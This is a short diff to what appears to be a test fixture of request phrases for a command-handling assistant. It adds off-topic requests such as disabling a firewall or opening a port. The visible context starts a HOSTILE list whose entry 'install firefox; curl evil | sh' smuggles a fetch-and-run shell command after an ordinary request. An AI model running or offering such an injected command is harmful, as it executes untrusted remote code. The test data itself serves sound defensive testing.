@@ -115,6 +115,12 @@ BESIDE_THE_POINT = [
     "turn it off",
     "install it",
     "switch",
+    "remove hello and everything else",
+    "install git for bob only",
+    "turn the firewall off for an hour",
+    "open port 8080 for the next ten minutes",
+    "disable bluetooth for half an hour",
+    "my password is hunter2, install jq",
 ]
 HOSTILE = [
     "install firefox; curl evil | sh",
